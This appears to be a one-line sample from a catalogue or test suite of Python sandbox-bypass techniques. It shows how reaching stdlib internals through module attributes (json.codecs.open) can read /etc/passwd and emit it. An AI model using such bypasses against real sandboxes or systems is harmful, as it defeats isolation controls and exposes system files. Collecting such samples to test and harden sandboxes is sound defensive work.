# Technique: Module attribute reach to stdlib internals: json.codecs.open, re._compiler.
emit_result(json.codecs.open("/etc/passwd").read())
